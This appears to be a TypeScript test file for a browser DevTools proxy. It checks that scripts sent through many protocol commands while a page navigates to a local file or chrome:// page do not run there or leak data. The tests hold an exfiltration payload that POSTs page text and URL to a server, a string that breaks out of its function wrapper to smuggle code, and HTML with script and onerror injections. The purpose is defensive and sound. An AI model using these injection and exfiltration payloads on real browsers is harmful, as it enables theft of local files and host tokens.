/** Commands that arrive in a page which has just left the web, sent by the thousand while it does; what they find there goes past the host. */
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { browserPath } from '../faults/support.ts';
import { type DevtoolsSubject, openDevtools } from '../support/devtools.ts';

/** Bursts of commands while one page goes somewhere; more wait in the pipe than a browser answers meanwhile. */
const BURSTS = 120;

let subject: DevtoolsSubject;
beforeAll(async () => {
  subject = await openDevtools();
}, 60_000);
afterAll(() => subject?.[Symbol.asyncDispose]());

/** Every command that brings a script along, or text with one, whatever numbers nodes and contexts have there. */
function everyWay(frameId: string, script: string): [string, object][] {
  const html = `<body><script>${script}</script><img src="x:" onerror="${script}">`;
  const contexts = [1, 2, 3, 4];
  return [
    ['Runtime.evaluate', { expression: script }],
    ['Runtime.compileScript', { expression: script, persistScript: true, sourceURL: 'x.js' }],
    ...contexts.map((executionContextId): [string, object] => [
      'Runtime.callFunctionOn',
      { executionContextId, functionDeclaration: `() => { ${script} }` },
    ]),
    // A text that leaves the brackets which it is put into.
    ['Runtime.callFunctionOn', { executionContextId: 1, functionDeclaration: `0);${script};(()=>0` }],
    ['Page.setDocumentContent', { frameId, html }],
    ['DOM.getDocument', {}],
    ...contexts.map((nodeId): [string, object] => ['DOM.setOuterHTML', { nodeId, outerHTML: html }]),
    ...contexts.map((nodeId): [string, object] => [
      'DOM.setAttributeValue',
      { nodeId, name: 'onclick', value: script },
    ]),
  ];
}

// Would catch: the host's token, posted to a site by a script whose answer is kept back, as one of many that were on their way when a file was opened.
test.skipIf(browserPath === null)(
  'a script that arrives when its page has left the web does nothing there',
  async () => {
    const { operator, client, web, told, host } = subject;
    const { target, session } = await operator.open(web);
    const mine = await client.attach(target);
    const leak = `fetch('${web}', { method: 'POST', mode: 'no-cors', body: location.href + document.documentElement.innerText })`;
    const ways = everyWay(target, `if (!location.protocol.startsWith('http')) ${leak}`);
    const file = pathToFileURL(path.join(host.dir, 'host.json')).href;
    for (const elsewhere of [file, 'chrome://version/', file]) {
      const going = operator.send('Page.navigate', { url: elsewhere }, session);
      for (let burst = 0; burst < BURSTS; burst++) {
        for (const [method, params] of ways) void client.send(method, params, mine);
        await client.send('Browser.getVersion');
      }
      await going;
      // Whatever a page has sent has come when a request of it comes that was made later.
      const marker = `last ${elsewhere}`;
      const last = `fetch('${web}', { method: 'POST', mode: 'no-cors', body: '${marker}' }).catch(() => 0)`;
      await operator.goto(web, session);
      await operator.read(last, session);
      await expect.poll(() => told, { timeout: 10_000 }).toContain(marker);
    }
    expect(told.filter((text) => !text.startsWith('last '))).toEqual([]);
    // It has not been held back altogether.
    expect(await client.read('document.title', mine)).toBe('site');
  },
  60_000,
);

// Would catch: a look around that a page of the web notices, or that changes what a script comes to.
test.skipIf(browserPath === null)('what scripts come to in pages of the web is what it was', async () => {
  const { client, web } = subject;
  const { session } = await client.open(web);
  await client.goto(web, session);
  const tamper = `Array.prototype.forEach = RegExp.prototype.test = () => { window.noticed = 1; throw new Error('seen') }; 0`;
  expect(await client.read(tamper, session)).toBe(0);
  expect(await client.read('1 + 1', session)).toBe(2);
  expect(await client.read('var a = 3', session)).toBeUndefined();
  expect(await client.read('{ a + 1 }', session)).toBe(4);
  expect(await client.read('function f() { return 5 } f()', session)).toBe(5);
  expect(await client.read('new Promise((done) => done(6))', session)).toBe(6);
  const { result: held } = await client.send('Runtime.evaluate', { expression: 'window' }, session);
  const called = async (params: object) => {
    const { result } = await client.send('Runtime.callFunctionOn', { returnByValue: true, ...params }, session);
    return (result as { value?: unknown } | undefined)?.value;
  };
  const { objectId } = held as { objectId: string };
  expect(await called({ objectId, functionDeclaration: 'function () { return this === window }' })).toBe(true);
  const { uniqueContextId } = await firstContext(session);
  for (const declaration of ['(x) => x + 1', 'async x => x + 1', 'function named(x) { return x + 1 }'])
    expect(
      await called({
        uniqueContextId,
        functionDeclaration: declaration,
        arguments: [{ value: 6 }],
        awaitPromise: true,
      }),
    ).toBe(7);
  expect(await client.read('window.noticed', session)).toBeUndefined();
  const blank = await client.open('about:blank');
  expect(await client.read('location.href', blank.session)).toBe('about:blank');
  await client.goto('data:text/html,<p>here', blank.session);
  expect(await client.read('document.body.innerText', blank.session)).toBe('here');
});

async function firstContext(session: string): Promise<{ uniqueContextId: string }> {
  const { client } = subject;
  await client.send('Runtime.enable', {}, session);
  const made = client.events.findLast(
    ({ method, sessionId }) => method === 'Runtime.executionContextCreated' && sessionId === session,
  );
  const { uniqueId } = (made?.params as { context: { uniqueId: string } }).context;
  return { uniqueContextId: uniqueId };
}
